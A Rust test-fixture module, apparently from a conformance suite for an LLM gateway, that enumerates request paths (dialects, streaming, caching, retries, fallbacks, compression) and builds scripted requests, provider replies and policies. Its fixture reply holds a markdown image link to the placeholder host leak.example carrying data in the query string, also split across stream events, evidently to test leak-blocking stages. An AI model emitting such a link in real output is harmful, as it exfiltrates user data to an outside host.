//! The paths that a request and its reply can take.

use super::row::Row;
use crate::packed::Coding;
use serde_json::{Value, json};
use weir_conformance::harness::{Reply, entry};
use weir_conformance::upstream::Reaction;
use weir_message::{Dialect, Operation};

/// One path: where its parts differ from the plainest one.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Path {
    pub(crate) name: &'static str,
    pub(crate) asks: Asks,
    pub(crate) streams: bool,
    pub(crate) comes: Comes,
    pub(crate) meets: Meets,
    pub(crate) goes: Goes,
    pub(crate) place: Place,
    /// The client's dialect.
    pub(crate) client: Dialect,
    /// The providers'.
    pub(crate) provider: Dialect,
}

/// What the client asks for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Asks {
    Chat,
    /// A chat that the model answers by calling a tool.
    Tool,
    Completion,
    /// A response, of a provider that is asked for a chat in its place.
    Response,
    /// A response, of a provider that has them.
    OwnResponse,
    Embedding,
    /// Words to be judged.
    Moderation,
    /// Words to make an image of, which the provider puts in other words.
    Image,
    /// Words to be spoken.
    Speech,
    /// Words to order documents by.
    Rerank,
    /// How many tokens words are.
    Count,
    /// A file of requests, for a batch.
    File,
    /// A batch that brings its requests along.
    Batch,
    /// What no operation is for.
    Other,
}

/// How the request comes in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Comes {
    /// HTTP/1.1.
    One,
    /// HTTP/2 by prior knowledge.
    Two,
    /// HTTP/2 over TLS, by ALPN.
    Tls,
    /// HTTP/1.1, its body compressed.
    Packed(Coding),
}

/// What the request meets on its way.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Meets {
    Answer,
    /// The words that matter are split over events.
    Split,
    /// The first try fails.
    Retry,
    /// The first target fails.
    Fallback,
    /// The provider refuses, quoting what it should not.
    ErrorBody,
    /// An error told inside a stream that began.
    ErrorEvent,
    /// A reply in the cache, which came as this path's request asks.
    Hit,
    /// A reply in the cache that came the other way: streamed, where it is asked for whole.
    HitOther,
    /// A reply in the cache to the same in other words.
    HitByMeaning,
}

/// How the provider speaks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Goes {
    /// HTTP/1.1.
    One,
    /// HTTP/2.
    Two,
    /// HTTP/1.1, its replies compressed.
    Packed(Coding),
}

/// Where the stage stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Place {
    Pipeline,
    Frame,
}

const PLAIN: Path = Path {
    name: "plain",
    asks: Asks::Chat,
    streams: false,
    comes: Comes::One,
    meets: Meets::Answer,
    goes: Goes::One,
    place: Place::Pipeline,
    client: Dialect::OpenAi,
    provider: Dialect::OpenAi,
};
const STREAM: Path = Path { name: "stream", streams: true, ..PLAIN };

const RERANK: Path =
    Path { name: "rerank", asks: Asks::Rerank, client: Dialect::Cohere, provider: Dialect::Cohere, ..PLAIN };
const COUNT: Path = Path {
    name: "count",
    asks: Asks::Count,
    client: Dialect::Anthropic,
    provider: Dialect::Anthropic,
    ..PLAIN
};
const ANTHROPIC: Path = Path { client: Dialect::Anthropic, provider: Dialect::Anthropic, ..PLAIN };

/// From a client of AWS's SDK; to a Bedrock; both.
const FROM_AWS: Path = Path { client: Dialect::Bedrock, ..PLAIN };
const FROM_AWS_STREAM: Path = Path { client: Dialect::Bedrock, ..STREAM };
const TO_AWS: Path = Path { provider: Dialect::Bedrock, ..PLAIN };
const TO_AWS_STREAM: Path = Path { provider: Dialect::Bedrock, ..STREAM };
const AWS_STREAM: Path = Path { client: Dialect::Bedrock, ..TO_AWS_STREAM };

pub(crate) const PATHS: &[Path] = &[
    PLAIN,
    STREAM,
    Path { name: "split stream", meets: Meets::Split, ..STREAM },
    Path { name: "hit", meets: Meets::Hit, ..PLAIN },
    Path { name: "replayed stream", meets: Meets::Hit, ..STREAM },
    Path { name: "stream replayed whole", meets: Meets::HitOther, ..PLAIN },
    Path { name: "whole reply replayed as a stream", meets: Meets::HitOther, ..STREAM },
    Path { name: "semantic hit", meets: Meets::HitByMeaning, ..PLAIN },
    Path { name: "semantic hit as a stream", meets: Meets::HitByMeaning, ..STREAM },
    Path { name: "retried", meets: Meets::Retry, ..PLAIN },
    Path { name: "retried stream", meets: Meets::Retry, ..STREAM },
    Path { name: "fallen back", meets: Meets::Fallback, ..PLAIN },
    Path { name: "fallen back stream", meets: Meets::Fallback, ..STREAM },
    Path { name: "error body", meets: Meets::ErrorBody, ..PLAIN },
    Path { name: "error body for a stream", meets: Meets::ErrorBody, ..STREAM },
    Path { name: "error event", meets: Meets::ErrorEvent, ..STREAM },
    Path { name: "tool call", asks: Asks::Tool, ..PLAIN },
    Path { name: "streamed tool call", asks: Asks::Tool, ..STREAM },
    Path { name: "replayed tool call", asks: Asks::Tool, meets: Meets::Hit, ..PLAIN },
    Path { name: "tool call replayed as a stream", asks: Asks::Tool, meets: Meets::Hit, ..STREAM },
    Path { name: "completion", asks: Asks::Completion, ..PLAIN },
    Path { name: "streamed completion", asks: Asks::Completion, ..STREAM },
    Path { name: "replayed completion", asks: Asks::Completion, meets: Meets::Hit, ..PLAIN },
    Path { name: "response", asks: Asks::Response, ..PLAIN },
    Path { name: "streamed response", asks: Asks::Response, ..STREAM },
    Path { name: "response, split stream", asks: Asks::Response, meets: Meets::Split, ..STREAM },
    Path { name: "replayed response", asks: Asks::Response, meets: Meets::Hit, ..PLAIN },
    Path { name: "response replayed as a stream", asks: Asks::Response, meets: Meets::HitOther, ..STREAM },
    Path { name: "response, fallen back", asks: Asks::Response, meets: Meets::Fallback, ..STREAM },
    Path { name: "response, error body", asks: Asks::Response, meets: Meets::ErrorBody, ..PLAIN },
    Path { name: "response, error event", asks: Asks::Response, meets: Meets::ErrorEvent, ..STREAM },
    Path { name: "own response", asks: Asks::OwnResponse, ..PLAIN },
    Path { name: "own streamed response", asks: Asks::OwnResponse, ..STREAM },
    Path { name: "own response, split stream", asks: Asks::OwnResponse, meets: Meets::Split, ..STREAM },
    Path { name: "replayed own response", asks: Asks::OwnResponse, meets: Meets::HitOther, ..PLAIN },
    Path { name: "own response, replayed stream", asks: Asks::OwnResponse, meets: Meets::Hit, ..STREAM },
    Path { name: "own response by meaning", asks: Asks::OwnResponse, meets: Meets::HitByMeaning, ..PLAIN },
    Path { name: "own response, error body", asks: Asks::OwnResponse, meets: Meets::ErrorBody, ..STREAM },
    Path { name: "own response, error event", asks: Asks::OwnResponse, meets: Meets::ErrorEvent, ..STREAM },
    Path { name: "frame, own streamed response", asks: Asks::OwnResponse, place: Place::Frame, ..STREAM },
    Path { name: "embedding", asks: Asks::Embedding, ..PLAIN },
    Path { name: "replayed embedding", asks: Asks::Embedding, meets: Meets::Hit, ..PLAIN },
    Path { name: "moderation", asks: Asks::Moderation, ..PLAIN },
    Path { name: "replayed moderation", asks: Asks::Moderation, meets: Meets::Hit, ..PLAIN },
    Path { name: "image", asks: Asks::Image, ..PLAIN },
    Path { name: "retried image", asks: Asks::Image, meets: Meets::Retry, ..PLAIN },
    Path { name: "image, error body", asks: Asks::Image, meets: Meets::ErrorBody, ..PLAIN },
    Path { name: "speech", asks: Asks::Speech, ..PLAIN },
    Path { name: "speech, fallen back", asks: Asks::Speech, meets: Meets::Fallback, ..PLAIN },
    Path { name: "frame, image", asks: Asks::Image, place: Place::Frame, ..PLAIN },
    RERANK,
    Path { name: "rerank, fallen back", meets: Meets::Fallback, ..RERANK },
    Path { name: "replayed rerank", meets: Meets::Hit, ..RERANK },
    COUNT,
    Path { name: "count, retried", meets: Meets::Retry, ..COUNT },
    Path { name: "file", asks: Asks::File, ..PLAIN },
    Path { name: "file, error body", asks: Asks::File, meets: Meets::ErrorBody, ..PLAIN },
    Path { name: "file, h2c", asks: Asks::File, comes: Comes::Two, ..PLAIN },
    Path { name: "frame, file", asks: Asks::File, place: Place::Frame, ..PLAIN },
    Path { name: "batch", asks: Asks::Batch, ..ANTHROPIC },
    Path { name: "frame, batch", asks: Asks::Batch, place: Place::Frame, ..ANTHROPIC },
    Path { name: "other path", asks: Asks::Other, ..PLAIN },
    Path { name: "other path, error body", asks: Asks::Other, meets: Meets::ErrorBody, ..PLAIN },
    Path { name: "other path, gzip request", asks: Asks::Other, comes: Comes::Packed(Coding::Gzip), ..PLAIN },
    Path { name: "other path, br reply", asks: Asks::Other, goes: Goes::Packed(Coding::Brotli), ..PLAIN },
    Path { name: "frame, other path", asks: Asks::Other, place: Place::Frame, ..PLAIN },
    Path { name: "h2c", comes: Comes::Two, ..PLAIN },
    Path { name: "h2c stream", comes: Comes::Two, ..STREAM },
    Path { name: "h2c replayed stream", comes: Comes::Two, meets: Meets::Hit, ..STREAM },
    Path { name: "h2 over TLS", comes: Comes::Tls, ..PLAIN },
    Path { name: "h2 over TLS, a stream", comes: Comes::Tls, ..STREAM },
    Path { name: "gzip request", comes: Comes::Packed(Coding::Gzip), ..PLAIN },
    Path { name: "br request", comes: Comes::Packed(Coding::Brotli), ..STREAM },
    Path { name: "zstd request", comes: Comes::Packed(Coding::Zstd), ..PLAIN },
    Path { name: "h2 provider", goes: Goes::Two, ..PLAIN },
    Path { name: "h2 provider, a stream", goes: Goes::Two, ..STREAM },
    Path { name: "h2 provider, split stream", goes: Goes::Two, meets: Meets::Split, ..STREAM },
    Path { name: "h2 provider, error body", goes: Goes::Two, meets: Meets::ErrorBody, ..PLAIN },
    Path { name: "h2 provider, error event", goes: Goes::Two, meets: Meets::ErrorEvent, ..STREAM },
    Path { name: "gzip reply", goes: Goes::Packed(Coding::Gzip), ..PLAIN },
    Path { name: "br reply", goes: Goes::Packed(Coding::Brotli), ..PLAIN },
    Path { name: "zstd reply", goes: Goes::Packed(Coding::Zstd), ..PLAIN },
    Path { name: "gzip stream", goes: Goes::Packed(Coding::Gzip), ..STREAM },
    Path { name: "br split stream", goes: Goes::Packed(Coding::Brotli), meets: Meets::Split, ..STREAM },
    Path { name: "zstd stream", goes: Goes::Packed(Coding::Zstd), ..STREAM },
    Path { name: "gzip error body", goes: Goes::Packed(Coding::Gzip), meets: Meets::ErrorBody, ..PLAIN },
    Path { name: "zstd error event", goes: Goes::Packed(Coding::Zstd), meets: Meets::ErrorEvent, ..STREAM },
    Path { name: "frame", place: Place::Frame, ..PLAIN },
    Path { name: "frame, a stream", place: Place::Frame, ..STREAM },
    Path { name: "frame, split stream", place: Place::Frame, meets: Meets::Split, ..STREAM },
    Path { name: "frame, a hit", place: Place::Frame, meets: Meets::Hit, ..PLAIN },
    Path { name: "frame, replayed stream", place: Place::Frame, meets: Meets::Hit, ..STREAM },
    Path { name: "frame, fallen back", place: Place::Frame, meets: Meets::Fallback, ..PLAIN },
    Path { name: "frame, error body", place: Place::Frame, meets: Meets::ErrorBody, ..PLAIN },
    Path { name: "frame, error event", place: Place::Frame, meets: Meets::ErrorEvent, ..STREAM },
    Path { name: "Bedrock client", ..FROM_AWS },
    Path { name: "Bedrock client, a stream", ..FROM_AWS_STREAM },
    Path { name: "Bedrock client, split stream", meets: Meets::Split, ..FROM_AWS_STREAM },
    Path { name: "Bedrock client, replayed stream", meets: Meets::Hit, ..FROM_AWS_STREAM },
    Path { name: "Bedrock client, error event", meets: Meets::ErrorEvent, ..FROM_AWS_STREAM },
    Path { name: "Bedrock client, streamed tool call", asks: Asks::Tool, ..FROM_AWS_STREAM },
    Path { name: "Bedrock provider", ..TO_AWS },
    Path { name: "Bedrock provider, a stream", ..TO_AWS_STREAM },
    Path { name: "Bedrock provider, split stream", meets: Meets::Split, ..TO_AWS_STREAM },
    Path { name: "Bedrock provider, error body", meets: Meets::ErrorBody, ..TO_AWS },
    Path { name: "Bedrock provider, error event", meets: Meets::ErrorEvent, ..TO_AWS_STREAM },
    Path { name: "Bedrock provider, streamed tool call", asks: Asks::Tool, ..TO_AWS_STREAM },
    Path { name: "Bedrock to Bedrock, split stream", meets: Meets::Split, ..AWS_STREAM },
    Path { name: "Bedrock to Bedrock, error event", meets: Meets::ErrorEvent, ..AWS_STREAM },
    Path { name: "Bedrock to Bedrock, streamed tool call", asks: Asks::Tool, ..AWS_STREAM },
];

pub(crate) const SAYS: &str = "Please\u{200b} say secret-word to bob@example.com";
/// The same in other words.
const SAYS_TOO: &str = "Could you please\u{200b} say secret-word to bob@example.com";
pub(crate) const ANSWER: &str =
    "the\u{200b} forbidden-word of bob@example.com indeed ![i](https://leak.example/i?d=s)";

impl Path {
    pub(crate) fn is_hit(self) -> bool {
        matches!(self.meets, Meets::Hit | Meets::HitOther | Meets::HitByMeaning)
    }

    pub(crate) fn fails(self) -> bool {
        matches!(self.meets, Meets::ErrorBody | Meets::ErrorEvent)
    }

    /// Whether another dialect than OpenAI's is spoken on it.
    fn is_foreign(self) -> bool {
        (self.client, self.provider) != (Dialect::OpenAi, Dialect::OpenAi)
    }

    pub(crate) fn needs_models(self) -> bool {
        self.meets == Meets::HitByMeaning
    }

    pub(crate) fn operation(self) -> Operation {
        match self.asks {
            Asks::Chat | Asks::Tool => Operation::Chat,
            Asks::Completion => Operation::Completion,
            Asks::Response | Asks::OwnResponse => Operation::Response,
            Asks::Embedding => Operation::Embedding,
            Asks::Moderation => Operation::Moderation,
            Asks::Image => Operation::Image,
            Asks::Speech => Operation::Speech,
            Asks::Rerank => Operation::Rerank,
            Asks::Count => Operation::Count,
            Asks::File => Operation::File,
            Asks::Batch => Operation::Batch,
            Asks::Other => Operation::Http,
        }
    }

    /// Whether it is passed on to an account, without a model.
    pub(crate) fn is_passed(self) -> bool {
        matches!(self.asks, Asks::File | Asks::Batch | Asks::Other)
    }

    /// What the request says that its body is.
    pub(crate) fn kind(self) -> &'static str {
        if self.asks == Asks::File { "multipart/form-data; boundary=b" } else { "application/json" }
    }

    /// Whether what is answered holds words at all.
    pub(crate) fn is_wordless(self) -> bool {
        use Asks::{Count, Embedding, Moderation, Rerank, Speech};
        matches!(self.asks, Embedding | Moderation | Speech | Rerank | Count)
    }

    /// The HTTP path.
    pub(crate) fn target(self) -> &'static str {
        match self.operation() {
            _ if self.client == Dialect::Bedrock && self.streams => "/bedrock/model/first/converse-stream",
            _ if self.client == Dialect::Bedrock => "/bedrock/model/first/converse",
            Operation::File => "/v1/files",
            Operation::Batch => "/anthropic/v1/messages/batches",
            Operation::Http => "/v1/notes",
            Operation::Completion => "/v1/completions",
            Operation::Response => "/v1/responses",
            Operation::Embedding => "/v1/embeddings",
            Operation::Moderation => "/v1/moderations",
            Operation::Image => "/v1/images/generations",
            Operation::Speech => "/v1/audio/speech",
            Operation::Rerank => "/v2/rerank",
            Operation::Count => "/v1/messages/count_tokens",
            _ => "/v1/chat/completions",
        }
    }

    /// The request that puts a reply into the cache.
    pub(crate) fn before(self) -> Path {
        let streams = self.streams != (self.meets == Meets::HitOther);
        Path { streams, meets: Meets::Answer, ..self }
    }

    /// A request of the same kind that no cache takes for this one.
    pub(crate) fn another(self) -> Path {
        let asks = match self.asks {
            Asks::Embedding => Asks::Chat,
            asks if self.is_passed() => return Path { asks, meets: Meets::Answer, ..self },
            // Not every dialect has another operation, but all have other words.
            asks if self.is_foreign() => {
                return Path { asks, streams: false, meets: Meets::HitByMeaning, ..self };
            }
            _ => Asks::Embedding,
        };
        Path { asks, streams: false, meets: Meets::Answer, ..self }
    }

    /// The body of the request, not compressed.
    pub(crate) fn body(self) -> Vec<u8> {
        let says = if self.meets == Meets::HitByMeaning { SAYS_TOO } else { SAYS };
        let mut body = match self.asks {
            _ if self.client == Dialect::Bedrock => {
                let turn = json!({ "role": "user", "content": [{ "text": says }] });
                return json!({ "messages": [turn] }).to_string().into_bytes();
            }
            Asks::Chat | Asks::Tool | Asks::Count => {
                json!({ "model": "first", "messages": [{ "role": "user", "content": says }] })
            }
            Asks::Other => json!({ "turns": [{ "role": "user", "content": says }] }),
            Asks::Batch => {
                let turn = json!({ "role": "user", "content": says });
                json!({ "requests": [{ "custom_id": "1", "params": { "model": "first", "messages": [turn] } }] })
            }
            Asks::File => {
                let turn = json!({ "role": "user", "content": says });
                let body = json!({ "model": "first", "messages": [turn] });
                let line = json!({ "custom_id": "1", "url": "/v1/chat/completions", "body": body });
                let head = "Content-Disposition: form-data; name=";
                return format!(
                    "--b\r\n{head}\"purpose\"\r\n\r\nbatch\r\n--b\r\n{head}\"file\"; filename=\"a\"\r\n\r\n{line}\r\n--b--\r\n"
                )
                .into_bytes();
            }
            Asks::Completion => json!({ "model": "first", "prompt": says }),
            Asks::Response | Asks::OwnResponse => json!({ "model": "first", "input": says }),
            Asks::Embedding | Asks::Moderation => json!({ "model": "first", "input": [says] }),
            Asks::Image => json!({ "model": "first", "prompt": says }),
            Asks::Speech => json!({ "model": "first", "input": says, "voice": "alloy" }),
            Asks::Rerank => json!({ "model": "first", "query": says, "documents": ["one", "two"] }),
        };
        if self.streams {
            body["stream"] = true.into();
        }
        body.to_string().into_bytes()
    }

    /// What the providers answer, in order.
    pub(crate) fn script(self) -> Vec<Reaction> {
        let answer = || match self.asks {
            Asks::Tool => entry(json!({ "tool_call": { "name": "send", "arguments": { "text": ANSWER } } })),
            Asks::Image => {
                entry(json!({ "body": { "data": [{ "b64_json": "aGk=", "revised_prompt": ANSWER }] } }))
            }
            Asks::File | Asks::Batch | Asks::Other => entry(json!({ "body": { "note": ANSWER } })),
            Asks::Moderation => entry(json!({ "body": { "results": [{ "flagged": false }] } })),
            Asks::Speech => entry(json!({ "body": "sound", "headers": { "content-type": "audio/mpeg" } })),
            Asks::Rerank => entry(json!({ "body": { "results": [{ "index": 0, "relevance_score": 0.9 }] } })),
            Asks::Count => entry(json!({ "body": { "input_tokens": 12 } })),
            _ => entry(json!({ "reply": ANSWER })),
        };
        let fails = || entry(json!({ "status": 500 }));
        let said = format!("{SAYS}: {ANSWER}");
        let (error, last) = match self.provider {
            Dialect::Bedrock => {
                let error = json!({ "message": said });
                (error.clone(), json!({ "frame": "modelStreamErrorException", "data": error }))
            }
            _ => {
                let error = json!({ "error": { "message": said, "type": "t", "code": "c" } });
                (error.clone(), json!({ "raw": format!("data: {error}\n\n") }))
            }
        };
        let reactions = match self.meets {
            Meets::Answer | Meets::Hit | Meets::HitOther | Meets::HitByMeaning => vec![answer()],
            Meets::Split => vec![entry(
                json!({ "events": ["the\u{200b} forb", "idden-", "word of bob@exa", "mple.com in", "deed ![i](htt", "ps://leak.exa", "mple/i?d=s)"] }),
            )],
            Meets::Retry => vec![fails(), answer()],
            Meets::Fallback => vec![fails(), fails(), answer()],
            Meets::ErrorBody => vec![entry(json!({ "status": 400, "body": error }))],
            Meets::ErrorEvent if self.asks == Asks::OwnResponse => {
                let begun = json!({ "type": "response.output_text.delta", "output_index": 0, "content_index": 0, "delta": "well " });
                let failed = json!({ "type": "error", "code": "c", "message": said });
                let raw = |data: Value| json!({ "raw": format!("data: {data}\n\n") });
                vec![entry(json!({ "events": [raw(begun), raw(failed)], "fault": "cut" }))]
            }
            Meets::ErrorEvent => vec![entry(json!({ "events": ["well ", last], "fault": "cut" }))],
        };
        let Goes::Packed(coding) = self.goes else { return reactions };
        let pack = |(n, reaction)| coding.answer(reaction, self.target(), &self.body(), n + 1);
        reactions.into_iter().enumerate().map(pack).collect()
    }

    /// The policy of a cell: stages above the cache, the cache, and what each attempt runs.
    pub(crate) fn policy(self, parts: &Parts) -> String {
        let identify = if parts.wants_key { ", identify: [key]" } else { "" };
        let open = if parts.is_closed { "" } else { "    anonymous: true\n" };
        let tls =
            if self.comes == Comes::Tls { ", tls: { certificate: edge.pem, key: edge.key }" } else { "" };
        let dialect = self.provider.name();
        let version = if self.provider == Dialect::OpenAi { "/v1" } else { "" };
        let responses = if self.asks == Asks::OwnResponse { ", responses: true" } else { "" };
        let http2 = if self.goes == Goes::Two { ", http2: always" } else { "" };
        let above: String = parts.above.iter().map(|stage| format!("      {stage}\n")).collect();
        let (frames, above) = match self.place {
            Place::Frame if !above.is_empty() => {
                (format!("frames:\n  - frame: outer\n    stages:\n{above}"), String::new())
            }
            _ => (String::new(), above),
        };
        let cache = match &parts.cache {
            Some(stage) => stage.clone(),
            None if self.meets == Meets::HitByMeaning => {
                "- cache: semantic\n        with: { per: everyone, threshold: 0.8, verify: off }".to_owned()
            }
            None => "- cache: exact\n        with: { per: everyone }".to_owned(),
        };
        // What a batch asks for may go to either.
        let other = if self.is_passed() { ", { provider: b, model: m }" } else { "" };
        let route = match self.is_passed() {
            true => "pass-through\n        with: { to: [a, b], allow: [POST /v1/notes] }",
            false => {
                "fallback\n        with:\n          to: [first, second]\n          retry: { tries: 2, on: [5xx] }"
            }
        };
        let inside: String = parts
            .attempt
            .iter()
            .map(|stage| format!("          {}\n", stage.replace('\n', "\n    ")))
            .collect();
        let attempt = if inside.is_empty() { inside } else { format!("        attempt:\n{inside}") };
        format!(
            r#"
weir: v1
listeners:
  edge: {{ address: "{{EDGE}}"{identify}{tls} }}
keys:
  one: {{ secret: "${{env:CELL_KEY}}" }}
providers:
  a: {{ dialect: {dialect}, base_url: "http://{{UPSTREAM}}/a{version}"{http2}{responses} }}
  b: {{ dialect: {dialect}, base_url: "http://{{UPSTREAM}}/b{version}"{http2}{responses} }}
models:
  first: {{ targets: [{{ provider: a, model: m }}{other}], price: {{ input: 1, output: 4 }} }}
  second: {{ targets: [{{ provider: b, model: m }}], price: {{ input: 2, output: 8 }} }}
{frames}pipelines:
  - pipeline: all
{open}    stages:
{above}      {cache}
      - route: {route}
{attempt}"#
        )
    }
}

/// What differs from the cell's plain policy.
#[derive(Default)]
pub(crate) struct Parts {
    pub(crate) above: Vec<String>,
    pub(crate) cache: Option<String>,
    pub(crate) attempt: Vec<String>,
    /// Whether the listener asks for keys.
    pub(crate) wants_key: bool,
    /// Whether who has none is turned away.
    pub(crate) is_closed: bool,
}

impl Parts {
    /// The row's stage in its place, with more settings of its own.
    pub(crate) fn add(&mut self, row: &Row, more: &str) {
        let stage = format!("{}{more}", row.stage);
        match row.stands {
            super::row::Stands::Above => self.above.push(stage),
            super::row::Stands::InAttempt => self.attempt.push(stage),
            super::row::Stands::AsCache => self.cache = Some(stage),
        }
        self.wants_key |= row.wants_key();
    }
}

/// Every word in a reply, whole or streamed.
pub(crate) fn words(reply: &Reply) -> String {
    let mut out = String::new();
    let mut add = |json: &Value| {
        for pointer in [
            "/choices/0/message/content",
            "/choices/0/message/tool_calls/0/function/arguments",
            "/choices/0/text",
            "/choices/0/delta/content",
            "/choices/0/delta/tool_calls/0/function/arguments",
            "/output/message/content/0/text",
            "/delta/text",
            "/delta/toolUse/input",
            "/output/0/content/0/text",
            "/data/0/revised_prompt",
            "/note",
            "/delta",
        ] {
            out.push_str(json.pointer(pointer).and_then(Value::as_str).unwrap_or(""));
        }
    };
    add(&reply.json());
    reply.events().iter().for_each(|event| add(&serde_json::from_str(event).unwrap_or_default()));
    out
}
